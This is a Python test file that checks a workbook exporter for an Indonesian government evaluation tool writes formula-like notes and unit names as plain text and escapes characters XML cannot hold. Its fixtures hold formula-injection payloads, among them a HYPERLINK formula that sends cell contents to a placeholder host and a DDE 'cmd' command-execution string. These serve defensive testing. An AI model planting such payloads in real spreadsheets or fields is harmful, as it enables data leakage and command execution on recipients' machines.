"""Workbooks we write carry no formula we did not write (issue 20 items 5 and 6).

A note, a data dukung line or an OPD name that looks like a formula stays text in the LKE export
(Jawaban and LKE ZI), in a unit's text re-exported after an import, and in ``tpi rekap --format
xlsx``; checked with openpyxl and with LibreOffice (its flat ODS output lists every formula it
sees). Stored text that XML cannot hold (U+FFFE) is written escaped, never a crash.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from _cli_run import tpi_in_process

from tpi_tui.core.workbook import FORMULA_LEAD, put
from tpi_tui.exchange.layout import SHEET_JAWABAN, SHEET_LKE
from tpi_tui.exchange.xlsx_export import build_workbook
from tpi_tui.exchange.xlsx_import import import_xlsx

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
POISON = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]
EVIL_OPD = '=HYPERLINK("http://contoh.invalid","Dinas")'
# the only formulas the exporter writes: L/M (and K of the "%" and total rows) of LKE ZI
OUR_FORMULA = re.compile(r"^=(IF|SUM|K\d|L\d)")


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory, make_demo):
    ws = make_demo(tmp_path_factory.mktemp("racun") / "demo")
    with ws.new_session(opd=EVIL_OPD, jenis="wawancara", tanggal="2025-07-01", target="WBK", actor="uji") as store:
        store.set_many(
            {
                1: {
                    "jawaban_tpi": "Ya",
                    "catatan_tpi": POISON[0],
                    "catatan_unit": POISON[1],
                    "bukti_dukung_unit": POISON[2],
                },
                2: {"catatan_tpi": POISON[3], "catatan_unit": POISON[4], "bukti_dukung_unit": POISON[5]},
            }
        )
        sid = store.id
    return ws, sid


def _texts(path: Path) -> tuple[list[str], list[tuple[str, str, str]]]:
    """(every string cell value, every formula cell as (sheet, ref, formula)) read by openpyxl."""
    strings, formulas = [], []
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, str(cell.value)))
                elif isinstance(cell.value, str):
                    strings.append(cell.value)
    return strings, formulas


def _libreoffice_formulas(path: Path, tmp: Path) -> list[str]:
    """Every formula LibreOffice finds in the workbook (its flat ODS output: table:formula=...)."""
    out = tmp / "lo"
    subprocess.run(
        [SOFFICE, "--headless", f"-env:UserInstallation={(tmp / 'profil').as_uri()}", "--convert-to", "fods",
         "--outdir", str(out), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    xml = (out / (path.stem + ".fods")).read_text(encoding="utf-8")
    return re.findall(r'table:formula="([^"]*)"', xml)


def _assert_no_foreign_formula(path: Path, texts: list[str]) -> None:
    strings, formulas = _texts(path)
    for text in texts:
        assert text in strings, text  # written, and as a string cell
    foreign = [f for f in formulas if not OUR_FORMULA.match(f[2]) or "HYPERLINK" in f[2] or "cmd" in f[2]]
    assert not foreign
    wb = openpyxl.load_workbook(path)
    for sheet in wb:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "s" and cell.value.startswith(FORMULA_LEAD):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)  # Excel keeps it text on edit too


def test_lke_export_writes_formula_like_notes_as_text(poisoned, tmp_path):
    ws, sid = poisoned
    with ws.open(sid, readonly=True) as store:
        path = tmp_path / "lke.xlsx"
        path.write_bytes(build_workbook(store))
    _assert_no_foreign_formula(path, POISON)
    wb = openpyxl.load_workbook(path)
    assert wb[SHEET_JAWABAN]["A2"].value == f"Unit kerja: {EVIL_OPD}"
    lke = wb[SHEET_LKE]
    assert any(c.value == POISON[0] and c.column_letter == "O" for row in lke.iter_rows() for c in row)


def test_unit_text_in_an_imported_file_stays_text_when_exported_again(poisoned, tmp_path):
    ws, sid = poisoned
    with ws.open(sid, readonly=True) as store:
        src = tmp_path / "dari-unit.xlsx"
        src.write_bytes(build_workbook(store, sheets=(SHEET_LKE,)))
    wb = openpyxl.load_workbook(src)
    sheet = wb[SHEET_LKE]
    row = next(c.row for r in sheet.iter_rows() for c in r if c.value == POISON[0])
    sheet[f"O{row}"].value = POISON[1]  # the unit's note, typed as text in its own copy
    sheet[f"O{row}"].data_type = "s"
    wb.save(src)
    with ws.new_session(
        opd="Dinas Penerima", jenis="wawancara", tanggal="2025-07-02", target="WBK", actor="uji"
    ) as dst:
        import_xlsx(dst, src, "unit")
        assert dst.answers["1"]["catatan_unit"] == POISON[1]
        out = tmp_path / "lagi.xlsx"
        out.write_bytes(build_workbook(dst))
    _assert_no_foreign_formula(out, [POISON[1]])


def _cli(ws, *args: str, tmp: Path) -> subprocess.CompletedProcess:
    env = {"HOME": str(tmp / "home"), "TPI_GALAT_LOG": str(tmp / "galat.log")}
    return tpi_in_process("-w", str(ws.root), *args, cwd=tmp, env=env)


def test_rekap_xlsx_writes_a_formula_like_opd_name_as_text(poisoned, tmp_path):
    ws, _ = poisoned
    out = tmp_path / "rekap.xlsx"
    r = _cli(ws, "rekap", "--tahun", "2025", "--format", "xlsx", "-o", str(out), tmp=tmp_path)
    assert r.returncode == 0, r.stderr
    _assert_no_foreign_formula(out, [EVIL_OPD])


@pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice (soffice) tidak terpasang; .ci/run memasangnya (libreoffice-calc-nogui)"
)
def test_libreoffice_finds_no_formula_we_did_not_write(poisoned, tmp_path):
    ws, sid = poisoned
    with ws.open(sid, readonly=True) as store:
        lke = tmp_path / "lke.xlsx"
        lke.write_bytes(build_workbook(store))
    rekap = tmp_path / "rekap.xlsx"
    assert _cli(ws, "rekap", "--tahun", "2025", "--format", "xlsx", "-o", str(rekap), tmp=tmp_path).returncode == 0
    lke_formulas = _libreoffice_formulas(lke, tmp_path / "a")
    assert lke_formulas and all(re.match(r"^of:=(IF|SUM|\[\.[KL]\d)", f) for f in lke_formulas), lke_formulas[:5]
    assert not [f for f in lke_formulas if "HYPERLINK" in f or "cmd" in f]
    assert _libreoffice_formulas(rekap, tmp_path / "b") == []  # the rekap has no formula at all


# -- item 6: stored text XML cannot hold --------------------------------------------------------


def test_put_escapes_what_xml_cannot_hold_and_the_file_saves(tmp_path):
    wb = openpyxl.Workbook()
    for n, text in enumerate(
        ["a\ufffeb", "c\uffffd", "nul\x00x", "esc\x1b[31m", "lone\ud800", "baris\nbaru\ttab"], start=1
    ):
        put(wb.active.cell(n, 1), text)
    wb.save(tmp_path / "x.xlsx")
    got = [c.value for c in openpyxl.load_workbook(tmp_path / "x.xlsx").active["A"]]
    assert got == ["a\\ufffeb", "c\\uffffd", "nul\\x00x", "esc\\x1b[31m", "lone\\ud800", "baris\nbaru\ttab"]


def test_rekap_with_a_stored_noncharacter_in_an_opd_name_exports_it_escaped(tmp_path, make_demo):
    ws = make_demo(tmp_path / "demo")
    summary = next(s for s in ws.list_sessions() if s.status == "final" and s.tanggal.startswith("2025"))
    path = next(ws.root.glob(f"sessions/*/*{summary.id}.json"))
    data = json.loads(path.read_text(encoding="utf-8"))
    (meta,) = data["meta"].values()
    meta["opd"]["nama"] = "Dinas\ufffeUji"  # written by hand: the gate would refuse it
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "rekap.xlsx"
    r = _cli(ws, "rekap", "--tahun", "2025", "--format", "xlsx", "-o", str(out), tmp=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "tak terduga" not in r.stderr
    strings, _ = _texts(out)
    assert "Dinas\\ufffeUji" in strings


def test_lke_export_of_a_session_with_a_stored_noncharacter_is_one_clear_line(tmp_path, make_demo):
    ws = make_demo(tmp_path / "demo")
    summary = next(s for s in ws.list_sessions() if s.status == "final")
    path = next(ws.root.glob(f"sessions/*/*{summary.id}.json"))
    data = json.loads(path.read_text(encoding="utf-8"))
    data["answers"]["1"]["catatan_tpi"] = "catatan\ufffe"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    r = _cli(ws, "export", summary.id, "--format", "xlsx", "-o", str(tmp_path / "x.xlsx"), tmp=tmp_path)
    assert r.returncode == 2 and "Traceback" not in r.stderr and "tak terduga" not in r.stderr
    assert "U+FFFE" in r.stderr and len(r.stderr.strip().splitlines()) == 1
